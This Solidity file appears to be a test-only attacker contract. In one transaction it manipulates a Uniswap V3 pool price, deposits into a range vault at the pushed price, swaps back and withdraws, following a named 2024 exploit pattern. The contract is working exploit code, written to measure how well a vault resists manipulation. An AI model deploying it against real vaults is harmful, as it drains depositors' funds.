// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IUniswapV3Pool} from "@uniswap/v3-core/contracts/interfaces/IUniswapV3Pool.sol";
import {IUniswapV3SwapCallback} from "@uniswap/v3-core/contracts/interfaces/callback/IUniswapV3SwapCallback.sol";

import {IRangeVault} from "../vault/IRangeVault.sol";

/// @title PriceManipulator
/// @notice Test-only attacker: in one transaction, pushes the pool's price, deposits into the vault at the pushed
/// price, swaps everything it received back, and withdraws all its shares (the Gamma 2024 pattern). It keeps what it
/// ends with, so a test reads its profit from its balances.
contract PriceManipulator is IUniswapV3SwapCallback {
    // Getter names as in the vault and the pool.
    // solhint-disable immutable-vars-naming
    IUniswapV3Pool public immutable pool;
    IRangeVault public immutable vault;
    IERC20 public immutable token0;
    IERC20 public immutable token1;
    // solhint-enable immutable-vars-naming

    error NotPool(address caller);

    /// @param vault_ The vault to attack.
    constructor(IRangeVault vault_) {
        vault = vault_;
        pool = vault_.pool();
        token0 = IERC20(pool.token0());
        token1 = IERC20(pool.token1());
        token0.approve(address(vault_), type(uint256).max);
        token1.approve(address(vault_), type(uint256).max);
    }

    /// @notice Push the price with `pushAmount` (selling token0 if `zeroForOne`), deposit up to `depositAmount` of
    /// each token, swap back what the push bought, withdraw everything.
    /// @param zeroForOne Direction of the push.
    /// @param pushAmount Exact input of the push.
    /// @param depositAmount Desired amount of each token in the deposit.
    function attack(bool zeroForOne, uint256 pushAmount, uint256 depositAmount) external {
        (int256 amount0, int256 amount1) = _swap(zeroForOne, pushAmount);
        (uint256 shares, , ) = vault.deposit(
            depositAmount,
            depositAmount,
            0,
            0,
            0,
            address(this),
            block.timestamp
        );
        _swap(!zeroForOne, uint256(-(zeroForOne ? amount1 : amount0)));
        vault.withdraw(shares, 0, 0, address(this), block.timestamp);
    }

    /// @notice Pays the pool for a swap.
    /// @param amount0Delta Pool's token0 delta.
    /// @param amount1Delta Pool's token1 delta.
    function uniswapV3SwapCallback(
        int256 amount0Delta,
        int256 amount1Delta,
        bytes calldata
    ) external override {
        if (msg.sender != address(pool)) revert NotPool(msg.sender);
        if (amount0Delta > 0) token0.transfer(msg.sender, uint256(amount0Delta));
        if (amount1Delta > 0) token1.transfer(msg.sender, uint256(amount1Delta));
    }

    function _swap(bool zeroForOne, uint256 amountIn) private returns (int256, int256) {
        uint160 limit = zeroForOne ? 4295128740 : 1461446703485210103287273052203988822378723970341;
        return pool.swap(address(this), zeroForOne, int256(amountIn), limit, "");
    }
}
